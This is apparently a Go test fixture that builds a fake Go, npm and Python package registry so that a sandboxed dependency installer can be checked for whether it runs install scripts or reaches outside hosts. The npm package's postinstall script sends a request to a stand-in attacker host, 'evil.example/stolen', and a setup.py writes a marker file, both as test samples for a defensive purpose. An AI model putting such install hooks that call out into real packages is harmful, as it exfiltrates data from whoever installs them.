package setup

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
)

// The stand-ins' host, and the address of the internet that it answers to.
const (
	registryHost = "packages.example"
	registryAt   = "198.41.0.4"
)

// registry is a real server with a module proxy, an npm registry and a Python index. It is
// the only thing in its network.
type registry struct {
	server *httptest.Server
	mux    *http.ServeMux

	mu     sync.Mutex
	asked  []string // paths
	dialed []string
	hold   chan struct{} // where not nil, answers wait for its end

	reached func() // called with each request; may be nil
}

func newRegistry(t *testing.T) *registry {
	t.Helper()
	r := &registry{mux: http.NewServeMux()}
	r.server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		r.asked = append(r.asked, req.URL.Path)
		hold, reached := r.hold, r.reached
		r.mu.Unlock()
		if reached != nil {
			reached()
		}
		if hold != nil {
			select {
			case <-hold:
			case <-req.Context().Done():
			}
		}
		r.mux.ServeHTTP(w, req)
	}))
	t.Cleanup(r.server.Close)
	r.addModule(t)
	r.addNode(t)
	r.addPython(t)
	return r
}

func (r *registry) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.asked)
}

func (r *registry) Resolve(_ context.Context, host string) ([]netip.Addr, error) {
	switch host {
	case registryHost:
		return []netip.Addr{netip.MustParseAddr(registryAt)}, nil
	case "inside.example":
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	case "evil.example":
		return []netip.Addr{netip.MustParseAddr("198.41.0.66")}, nil
	}
	return nil, errors.New("no such host")
}

func (r *registry) Dial(ctx context.Context, to netip.AddrPort) (net.Conn, error) {
	r.mu.Lock()
	r.dialed = append(r.dialed, to.String())
	r.mu.Unlock()
	return (&net.Dialer{}).DialContext(ctx, "tcp", r.server.Listener.Addr().String())
}

func (r *registry) give(path string, body []byte) {
	r.mux.HandleFunc("GET "+path, func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(body) })
}

// module is example.com/greet v1.0.0, which is nowhere else.
const moduleMod = "module example.com/greet\n\ngo 1.24\n"

func (r *registry) addModule(t *testing.T) {
	t.Helper()
	files := [][2]string{{"go.mod", moduleMod}, {"greet.go", "package greet\n\nconst Hello = \"hello\"\n"}}
	var archive bytes.Buffer
	z := zip.NewWriter(&archive)
	for _, f := range files {
		name := "example.com/greet@v1.0.0/" + f[0]
		w, err := z.Create(name)
		require.NoError(t, err)
		_, _ = w.Write([]byte(f[1]))
	}
	require.NoError(t, z.Close())
	at := "/go/example.com/greet/@v/v1.0.0"
	r.give(at+".info", []byte(`{"Version":"v1.0.0"}`))
	r.give(at+".mod", []byte(moduleMod))
	r.give(at+".zip", archive.Bytes())
}

func sum(text string) string {
	h := sha256.Sum256([]byte(text))
	return "h1:" + base64.StdEncoding.EncodeToString(h[:])
}

// goFiles are a module that needs the other.
func goFiles() files {
	var sums string
	for _, f := range [][2]string{{"go.mod", moduleMod}, {"greet.go", "package greet\n\nconst Hello = \"hello\"\n"}} {
		sums += fmt.Sprintf("%x  example.com/greet@v1.0.0/%s\n", sha256.Sum256([]byte(f[1])), f[0])
	}
	modSum := fmt.Sprintf("%x  go.mod\n", sha256.Sum256([]byte(moduleMod)))
	return files{
		"go.mod": "module example.com/shop\n\ngo 1.24\n\nrequire example.com/greet v1.0.0\n",
		"go.sum": "example.com/greet v1.0.0 " + sum(sums) + "\nexample.com/greet v1.0.0/go.mod " + sum(modSum) + "\n",
		"a.go":   "package shop\n\nimport \"example.com/greet\"\n\nconst Hello = greet.Hello\n",
		"run.sh": "echo what is no manifest is not seen\n",
	}
}

// nodePackage is left-shop, whose script after the installation would go elsewhere.
func nodePackage(t *testing.T) (archive []byte, integrity string) {
	t.Helper()
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	w := tar.NewWriter(z)
	for _, f := range [][2]string{
		{"package/package.json", `{"name":"left-shop","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node post.js"}}`},
		{"package/index.js", "module.exports = 'hello';\n"},
		{"package/post.js", "require('fs').writeFileSync(process.env.PACKAGES + '/go/ran', 'x');\nconst r = require('http').request({host: '127.0.0.1', port: new URL(process.env.HTTP_PROXY).port, path: 'http://evil.example/stolen'}, () => process.exit(0));\nr.on('error', () => process.exit(0));\nr.end();\n"},
	} {
		require.NoError(t, w.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1]))}))
		_, _ = w.Write([]byte(f[1]))
	}
	require.NoError(t, errors.Join(w.Close(), z.Close()))
	h := sha512.Sum512(out.Bytes())
	return out.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(h[:])
}

func (r *registry) addNode(t *testing.T) {
	t.Helper()
	archive, integrity := nodePackage(t)
	address := "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz"
	r.give("/npm/left-shop/-/left-shop-1.0.0.tgz", archive)
	about, err := json.Marshal(map[string]any{
		"name": "left-shop", "dist-tags": map[string]string{"latest": "1.0.0"},
		"versions": map[string]any{"1.0.0": map[string]any{"name": "left-shop", "version": "1.0.0", "dist": map[string]string{"tarball": address, "integrity": integrity}}},
	})
	require.NoError(t, err)
	r.give("/npm/left-shop", about)
}

func nodeFiles(t *testing.T, dir string) files {
	t.Helper()
	_, integrity := nodePackage(t)
	lock := map[string]any{
		"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
		"packages": map[string]any{
			"": map[string]any{"name": "shop", "version": "1.0.0", "dependencies": map[string]string{"left-shop": "1.0.0"}},
			"node_modules/left-shop": map[string]any{
				"version": "1.0.0", "resolved": "http://" + registryHost + "/npm/left-shop/-/left-shop-1.0.0.tgz", "integrity": integrity, "hasInstallScript": true,
			},
		},
	}
	text, err := json.Marshal(lock)
	require.NoError(t, err)
	return files{
		dir + "package.json":      `{"name":"shop","version":"1.0.0","dependencies":{"left-shop":"1.0.0"},"scripts":{"test":"node --test","preinstall":"touch /packages/go/ran"}}`,
		dir + "package-lock.json": string(text),
		dir + "index.js":          "console.log(require('left-shop'));\n",
	}
}

// addPython offers left_shop 1.0.0 as a wheel, and old_shop as a source that would have to
// be run to be installed.
func (r *registry) addPython(t *testing.T) {
	t.Helper()
	var wheel bytes.Buffer
	z := zip.NewWriter(&wheel)
	var record strings.Builder
	for _, f := range [][2]string{
		{"left_shop/__init__.py", "HELLO = 'hello'\n"},
		{"left_shop-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: left-shop\nVersion: 1.0.0\n"},
		{"left_shop-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	} {
		w, err := z.Create(f[0])
		require.NoError(t, err)
		_, _ = w.Write([]byte(f[1]))
		h := sha256.Sum256([]byte(f[1]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", f[0], base64.RawURLEncoding.EncodeToString(h[:]), len(f[1]))
	}
	w, err := z.Create("left_shop-1.0.0.dist-info/RECORD")
	require.NoError(t, err)
	_, _ = w.Write([]byte(record.String() + "left_shop-1.0.0.dist-info/RECORD,,\n"))
	require.NoError(t, z.Close())
	h := sha256.Sum256(wheel.Bytes())
	r.give("/pypi/left_shop-1.0.0-py3-none-any.whl", wheel.Bytes())
	page := func(link string) []byte { return []byte("<!DOCTYPE html><html><body>" + link + "</body></html>") }
	r.give("/pypi/left-shop/", page(`<a href="../left_shop-1.0.0-py3-none-any.whl#sha256=`+hex.EncodeToString(h[:])+`">left_shop-1.0.0-py3-none-any.whl</a>`))

	var source bytes.Buffer
	gz := gzip.NewWriter(&source)
	tw := tar.NewWriter(gz)
	text := "import os, pathlib\npathlib.Path(os.environ['PACKAGES'] + '/go/ran').write_text('x')\nfrom setuptools import setup\nsetup(name='old-shop', version='1.0.0')\n"
	require.NoError(t, tw.WriteHeader(&tar.Header{Name: "old_shop-1.0.0/setup.py", Mode: 0o644, Size: int64(len(text))}))
	_, _ = tw.Write([]byte(text))
	require.NoError(t, errors.Join(tw.Close(), gz.Close()))
	r.give("/pypi/old_shop-1.0.0.tar.gz", source.Bytes())
	r.give("/pypi/old-shop/", page(`<a href="../old_shop-1.0.0.tar.gz">old_shop-1.0.0.tar.gz</a>`))
}

// mirrors are how an operator names the stand-ins.
func mirrors() []string {
	return []string{
		"GOPROXY=http://" + registryHost + "/go", "GONOSUMDB=*", "npm_config_registry=http://" + registryHost + "/npm/",
		"PIP_INDEX_URL=http://" + registryHost + "/pypi/", "PIP_TRUSTED_HOST=" + registryHost,
	}
}
